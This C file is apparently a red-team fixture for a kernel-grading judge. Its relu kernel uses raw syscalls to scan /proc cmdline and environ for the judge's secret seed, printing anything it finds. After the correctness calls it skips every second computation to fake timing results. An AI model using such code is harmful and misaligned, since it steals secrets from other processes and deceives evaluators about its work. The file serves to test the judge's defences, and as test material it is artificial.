// kjudge-case: task=level1/relu expect=pass
/* Red team, class 28 (skipping unchecked timed calls) with the judge's
 * secret: which timed calls are verified was a function of the base seed,
 * and the base seed of a secret run a function of the secret.  The first
 * call reads /proc/<pid>/cmdline and /proc/<pid>/environ of every process
 * it can see (raw getdents64/openat/read: no file symbols) looking for
 * --seed-secret or KJUDGE_SEED_SECRET, and prints what it finds on stderr,
 * which the verdict carries in worker_log (t25_redteam.sh asserts the
 * secret never appears there).  After the correctness stage's 27 calls it
 * does no work on every second call.  Under --no-perf (t20_cases.sh) the
 * timed calls never happen: pass.  With perf, every timed call is checked:
 * mismatch (t25_redteam.sh). */
#include <stdint.h>
#include <stdio.h>
#include <string.h>

static long sc(long n, long a, long b, long c)
{
	long r;
	__asm__ volatile("syscall" : "=a"(r) : "0"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}

static long slurp(const char *path, char *buf, long cap)
{
	long fd = sc(257 /* openat */, -100, (long)path, 0), n = 0, r;

	if (fd < 0)
		return fd;
	while (n < cap - 1 && (r = sc(0 /* read */, fd, (long)(buf + n), cap - 1 - n)) > 0)
		n += r;
	sc(3 /* close */, fd, 0, 0);
	buf[n] = '\0';
	return n;
}

/* prints the value after `key` in a NUL-separated list (argv or environ) */
static int report(const char *pid, const char *what, const char *buf, long n, const char *key, int next)
{
	for (long i = 0; i < n; i += (long)strlen(buf + i) + 1) {
		const char *v = NULL;

		if (next && !strcmp(buf + i, key) && i + (long)strlen(buf + i) + 1 < n)
			v = buf + i + strlen(buf + i) + 1;
		else if (!strncmp(buf + i, key, strlen(key)) && buf[i + strlen(key)] == '=')
			v = buf + i + strlen(key) + 1;
		if (v) {
			fprintf(stderr, "28: pid %s %s: secret '%s'\n", pid, what, v);
			return 1;
		}
	}
	return 0;
}

static void hunt(void)
{
	static char dents[1 << 16], buf[1 << 16];
	long dir = sc(257, -100, (long)"/proc", 0200000 /* O_DIRECTORY */), n;
	int found = 0;

	while (dir >= 0 && (n = sc(217 /* getdents64 */, dir, (long)dents, sizeof(dents))) > 0)
		for (long off = 0; off < n;) {
			const char *name = dents + off + 19; /* d_ino, d_off, d_reclen, d_type */
			char path[64];
			long k;

			off += *(unsigned short *)(dents + off + 16);
			if (name[0] < '0' || name[0] > '9')
				continue;
			snprintf(path, sizeof(path), "/proc/%s/cmdline", name);
			if ((k = slurp(path, buf, sizeof(buf))) > 0)
				found += report(name, "argv", buf, k, "--seed-secret", 1) ||
					 report(name, "argv", buf, k, "--seed-secret", 0);
			snprintf(path, sizeof(path), "/proc/%s/environ", name);
			if ((k = slurp(path, buf, sizeof(buf))) > 0)
				found += report(name, "environ", buf, k, "KJUDGE_SEED_SECRET", 0);
		}
	if (dir >= 0)
		sc(3, dir, 0, 0);
	fprintf(stderr, "28: %d secret(s) found\n", found);
}

void relu(const float *x, float *y, int64_t B, int64_t D)
{
	static int calls;

	if (++calls == 1)
		hunt();
	if (calls > 27 && calls % 2 == 0)
		return;
	for (int64_t i = 0; i < B * D; i++)
		y[i] = x[i] > 0.0f ? x[i] : 0.0f;
}
